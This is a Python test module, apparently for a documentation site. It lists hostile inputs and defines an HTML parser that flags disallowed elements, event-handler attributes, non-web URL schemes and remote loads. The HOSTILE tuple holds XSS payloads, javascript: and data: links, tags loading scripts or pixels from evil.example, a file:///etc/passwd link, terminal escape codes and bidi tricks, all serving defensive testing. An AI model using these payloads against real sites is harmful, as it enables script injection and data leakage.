"""Texts that try to become something else: markup, scripts, links, codes for terminals, other directions."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

HOSTILE = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<ScRiPt>alert(1)</ScRiPt>",
    "<script src=//evil.example/x.js></script>",
    "<<script>alert(1)//<</script>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "` onmouseover=alert(1) `",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><input name=q></form>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](\\\\evil.example\\pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '[x](https://a.example "x\\" onmouseover=\\"alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "# head {: onclick=alert(1) }",
    "text {onclick=alert(1)}",
    "<!-- --!><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7}",
    "dagtasks:body:goes:here dagtasks:title:goes:here",
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "safe \u202e txt.exe \u2066 hidden \u2069",
    "nul \x00 bell \x07 c1 \x9b31m",
    '<a id=__config name=__search class="md-search">x</a>',
    "\ud800 alone",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
)

_NAMES = (
    "a article aside b blockquote body br button circle code dd del details dialog div dl dt em fieldset footer form h1 h2 h3 h4 h5 h6 "
    "g head header html hr i img input ins kbd label li link main meta nav ol option p path polygon polyline pre rect s script section select small span strong "
    "style summary svg symbol table tbody td template text th thead time title tr ul use"
)
ELEMENTS = frozenset(_NAMES.split(" "))
"""What our own templates, Markdown and the theme use. Scripts are checked apart."""
REMOTE_OK = frozenset({"a"})


class Page(HTMLParser):
    """What a browser would see in a page: elements, links, and whatever should not be there."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.links: list[str] = []
        self.loads: list[str] = []
        self.ids: list[str] = []
        self.scripts: list[str] = []
        self.text: list[str] = []
        self.title = ""
        self._inside: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._inside.append(tag)
        given = {name: value or "" for name, value in attrs}
        if tag not in ELEMENTS:
            self.wrong.append(f"element {tag}")
        self.wrong += [f"{tag} {name}={value}" for name, value in given.items() if name.startswith("on")]
        self.wrong += [f"{tag} {name}" for name in given if name in ("style", "srcdoc", "formaction", "xlink:href")]
        if "id" in given:
            self.ids.append(given["id"])
        for name in ("href", "src", "action", "data", "poster"):
            if name in given:
                self._see(tag, given[name])

    def _see(self, tag: str, url: str) -> None:
        parts = urlsplit(url.strip())
        if parts.scheme not in ("", "http", "https", "mailto"):
            self.wrong.append(f"{tag} leads to {url}")
        (self.links if tag in REMOTE_OK else self.loads).append(url)

    def handle_data(self, data: str) -> None:
        if self._inside[-1:] == ["script"]:
            self.scripts.append(data)
        elif self._inside[-1:] == ["title"]:
            self.title += data
        else:
            self.text.append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag in self._inside:
            while self._inside.pop() != tag:
                pass

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"comment {data[:40]}")

    @property
    def words(self) -> str:
        """All that can be read on the page."""
        return "".join(self.text)

    def remote(self) -> list[str]:
        """What the page would fetch from another host."""
        return [url for url in self.loads if urlsplit(url).netloc or url.startswith(("//", "\\"))]
